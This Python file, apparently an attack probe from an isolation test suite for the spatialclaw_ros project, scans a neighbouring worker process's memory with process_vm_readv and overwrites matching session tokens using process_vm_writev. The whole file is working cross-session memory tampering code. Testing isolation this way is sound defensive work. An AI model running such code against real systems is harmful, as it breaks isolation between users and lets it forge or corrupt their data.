# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Write over another session's variables in its worker's memory.

Both workers are copies of one zygote, so that addresses are easily guessed.
"""

# act: forge
# needs: tracing

import ctypes
import re

libc = ctypes.CDLL(None, use_errno=True)
NEW, SIZE = b'forged by another session', 1 << 16
new, found = ctypes.create_string_buffer(NEW), ctypes.create_string_buffer(SIZE)
for place in range(-1024, 1024):
    address = (NEIGHBOUR_ADDRESS & -SIZE) + SIZE * place
    here, there = (ctypes.c_uint64 * 2)(ctypes.addressof(found), SIZE), (ctypes.c_uint64 * 2)()
    there[0], there[1] = address, SIZE
    if libc.process_vm_readv(NEIGHBOUR_PID, here, 1, there, 1, 0) <= 0:
        continue
    for match in re.finditer(rb'neighbour-[0-9a-f]{24}', found.raw):
        here[0], here[1] = ctypes.addressof(new), len(NEW)
        there[0], there[1] = address + match.start(), len(NEW)
        print(hex(there[0]), libc.process_vm_writev(NEIGHBOUR_PID, here, 1, there, 1, 0))
